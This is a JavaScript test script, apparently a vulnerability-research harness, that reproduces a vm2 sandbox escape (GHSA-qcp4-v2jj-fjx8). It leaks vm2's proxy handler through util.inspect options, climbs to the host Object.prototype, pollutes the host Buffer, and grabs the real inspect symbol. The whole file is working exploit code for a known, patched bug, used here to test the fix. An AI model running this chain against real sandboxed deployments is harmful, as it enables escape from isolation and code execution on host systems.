// Source: vm2 test/ghsa/GHSA-qcp4-v2jj-fjx8/repro.js (fixed in vm2 3.11.0). The leak vector (the
// showProxy `seen` array) fires only up to Node 22.
// Tried: take vm2's proxy handler from the util.inspect context, call its trap methods with forged
// targets — getPrototypeOf(Buffer) four times up to the host Object.prototype, set(Buffer, ...) on
// the host — and use the host Object to extract the real inspect symbol; forged receivers too.
const out = {};
let leaked = null;
const obj = { subarray: Buffer.prototype.inspect, slice: Buffer.prototype.slice, hexSlice: () => '' };
try {
  obj.slice(10, {
    showHidden: true, showProxy: true, depth: 10,
    stylize(a) { const h = this.seen && this.seen[1]; if (h && (h.getPrototypeOf || h.set)) leaked = h; return a; },
  });
} catch (e) { out.slice = String(e.message).slice(0, 80); }
out.leaked = leaked !== null;
let sym;
if (leaked) {
  try {
    const gP = leaked.getPrototypeOf;
    const HObjectProto = gP(gP(gP(gP(Buffer))));
    const HObject = HObjectProto && HObjectProto.constructor;
    __wr.use(HObject, 'host Object via forged getPrototypeOf');
    sym = HObject && HObject.getOwnPropertySymbols(Buffer.prototype)[0];
  } catch (e) { out.getPrototypeOf = String(e.message).slice(0, 80); }
  try { leaked.set(Buffer, '__wrPolluted', 'polluted'); } catch (e) { out.set = String(e.message).slice(0, 80); }
}
if (Buffer.__wrPolluted !== undefined) __wr.flag('handler.set wrote onto the host Buffer');
try {
  const fake = Object.create(Object.getPrototypeOf({}));
  if (typeof fake.getPrototypeOf === 'function') __wr.use(fake.getPrototypeOf(Buffer), 'forged receiver');
} catch (e) {}
if (typeof sym === 'symbol') {
  const trojan = { [sym]: (depth, opt, inspect) => { __wr.use(inspect, 'inspect argument'); return ''; }, valueOf: undefined, constructor: undefined };
  try { await WebAssembly.compileStreaming(trojan).catch(() => undefined); } catch (e) {}
  console.log(trojan);
}
return out;
